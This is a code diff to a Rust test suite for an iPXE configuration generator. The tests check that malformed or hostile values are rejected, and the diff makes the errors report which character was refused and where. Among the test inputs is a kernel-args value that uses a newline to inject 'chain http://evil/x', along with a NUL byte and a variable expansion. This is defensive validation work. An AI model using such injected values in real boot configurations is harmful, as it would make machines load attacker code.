@@ -1,9 +1,18 @@
 //! Values iPXE would misread, malformed addresses and ids, oversize values: each is refused
 //! with the right error kind, naming the right field (and node).
 
+use ipxegen_core::error::At;
 use ipxegen_core::schema::Scope;
 use ipxegen_core::site::Problem;
 use ipxegen_core::{ErrorKind, Field, Site};
+
+/// A refused character and its position in the value (from 1).
+fn at(character: char, position: u16) -> At {
+    At {
+        character,
+        position,
+    }
+}
 
 const NODE: &str = r#"{"id": "n1", "nics": ["52:54:00:12:34:56"], "mode": "deploy", "kernel": "/k", "ramdisk": "/r"}"#;
 
@@ -129,13 +138,13 @@ fn hostile_values_are_refused_naming_their_field() {
         node_case(
             "newline injecting a command",
             r#""kernel_args": "quiet\nchain http://evil/x""#,
-            ErrorKind::Whitespace,
+            ErrorKind::Whitespace(at('\n', 6)),
             Field::NodeKernelArgs,
         ),
         node_case(
             "NUL byte in kernel args",
             r#""kernel_args": "quiet\u0000x""#,
-            ErrorKind::ControlByte,
+            ErrorKind::ControlByte(at('\0', 6)),
             Field::NodeKernelArgs,
         ),
         node_case(
@@ -165,7 +174,7 @@ fn hostile_values_are_refused_naming_their_field() {
         node_case(
             "space in a kernel URL",
             r#""kernel": "http://x/k ${y}""#,
-            ErrorKind::Whitespace,
+            ErrorKind::Whitespace(at(' ', 11)),
             Field::Kernel,
         ),
         node_case(
@@ -189,7 +198,7 @@ fn hostile_values_are_refused_naming_their_field() {
         node_case(
             "id with a space",
             r#""id": "a b""#,
-            ErrorKind::Whitespace,
+            ErrorKind::Whitespace(at(' ', 2)),
             Field::NodeId,
         ),
         node_case(
@@ -273,7 +282,7 @@ fn hostile_values_are_refused_naming_their_field() {
         site_case(
             "script name with a space",
             r#""ipxe_boot_script": "boot ipxe""#,
-            ErrorKind::Whitespace,
+            ErrorKind::Whitespace(at(' ', 5)),
             Field::IpxeBootScript,
         ),
         site_case(
@@ -408,7 +417,7 @@ fn hostile_values_are_refused_naming_their_field() {
                     r#"{"server": "192.0.2.3", "iqn": "iqn.2010-04.org.example:x", "username": "u", "password": "a b"}"#,
                 ),
             ),
-            kind: ErrorKind::Whitespace,
+            kind: ErrorKind::Whitespace(at(' ', 2)),
             field: Field::IscsiPassword,
             node: Some(0),
         },
